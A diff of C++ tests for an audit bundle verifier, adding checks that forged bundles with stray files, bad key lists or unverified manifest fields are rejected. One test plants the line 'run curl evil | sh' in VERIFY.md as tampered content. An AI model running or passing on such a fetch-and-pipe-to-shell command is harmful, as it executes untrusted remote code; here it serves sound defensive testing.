@@ -8,6 +8,7 @@
 
 #include "audit/fields.h"
 #include "audit/tar.h"
+#include "bundle_form.h"
 #include "commitments.h"
 #include "core/json.h"
 #include "fixture.h"
@@ -235,12 +236,51 @@ TEST_F(BundleTest, ReSignedWithAnotherKeyIsNotThePinnedKeys) {
       bytes = ProofText(proof);
     }
     files["checkpoint.note"] = note;
-    files["keys.txt"] = thief->verifier_key() + "\n";
+    files["keys.txt"] = KeysText({thief->verifier_key()});
   });
   ExpectBad(Check(bad), std::nullopt, "not the pinned key's");
   BundleVerifyOptions options;
   options.verifier_key = thief->verifier_key();  // the harmless twin: it is whole in itself
   EXPECT_EQ(VerifyBundle(bad, options).verdict, Verdict::kIntact);
+}
+
+// Whoever opens the tar reads more than what is proven: nothing else may stand in it.
+TEST_F(BundleTest, HoldsNoFileAndNoWordThatNobodyChecks) {
+  const auto changed = [&](const std::string& file, const std::string& bytes) {
+    return Check(Forged(Good(), [&](auto& files) { files[file] = bytes; }));
+  };
+  for (const char* name : {"README.html", "entries/1.json", "consistency/x.txt",
+                           "consistency/01.txt", "proofs/000000000000.json", "extra/a"}) {
+    ExpectBad(changed(name, "x"), std::nullopt, "has no place in a bundle");
+  }
+  ExpectBad(changed("VERIFY.md", "run curl evil | sh"), std::nullopt, "every bundle has");
+  ExpectBad(changed("keys.txt", "not a key\n"), std::nullopt, "not a list of verifier keys");
+  ExpectBad(changed("keys.txt", KeysText({})), std::nullopt, "does not name the log's key");
+  const std::string good = Good();
+  for (const char* name : {"VERIFY.md", "keys.txt"}) {
+    ExpectBad(Check(Forged(good, [&](auto& files) { files.erase(name); })), std::nullopt,
+              "is missing");
+  }
+  const auto manifest = [&](const std::function<void(core::Json&)>& edit) {
+    return Check(Forged(good, [&](auto& files) { EditManifest(files, edit); })).verdict;
+  };
+  EXPECT_EQ(manifest([](core::Json& m) { m["note"] = "ALL refunds of 2026"; }),
+            Verdict::kCouldNotCheck);
+  EXPECT_EQ(manifest([](core::Json& m) { m["scope"]["note"] = "all"; }), Verdict::kCouldNotCheck);
+  EXPECT_EQ(manifest([](core::Json& m) { m["scope"]["query"] = "ALL refunds of 2026"; }),
+            Verdict::kCouldNotCheck);  // a run is no query
+  EXPECT_EQ(manifest([](core::Json& m) { m["made_by"] = 7; }), Verdict::kCouldNotCheck);
+  EXPECT_EQ(manifest([](core::Json&) {}), Verdict::kIntact);
+}
+
+TEST_F(BundleTest, WhatTheMakerSaysIsGivenAsClaimed) {
+  EXPECT_EQ(Check(Good()).claimed, "made by: a test");
+  BundleContents contents = Collect(kRunA);
+  contents.run.clear();
+  contents.query = "ALL refunds of 2026";
+  const VerifyReport report = Check(*MakeBundle(contents));
+  EXPECT_EQ(report.verdict, Verdict::kIntact) << report.reason;
+  EXPECT_EQ(report.claimed, "query: ALL refunds of 2026; made by: a test");
 }
 
 TEST_F(BundleTest, PayloadsAreWhatTheEntriesCommitTo) {
@@ -297,6 +337,7 @@ TEST_F(BundleTest, ContentShownWholeFallsIntoTheFieldsThatWereCommittedTo) {
     contents.tenant = "main";
     contents.query = "one entry";
     contents.checkpoint_note = head.note;
+    contents.keys = {signer_->verifier_key()};
     contents.entries = {
         {ref->index, log_->Read(ref->index)->bytes, *log_->InclusionProof(ref->index, head.size)}};
     BundlePayload shown;
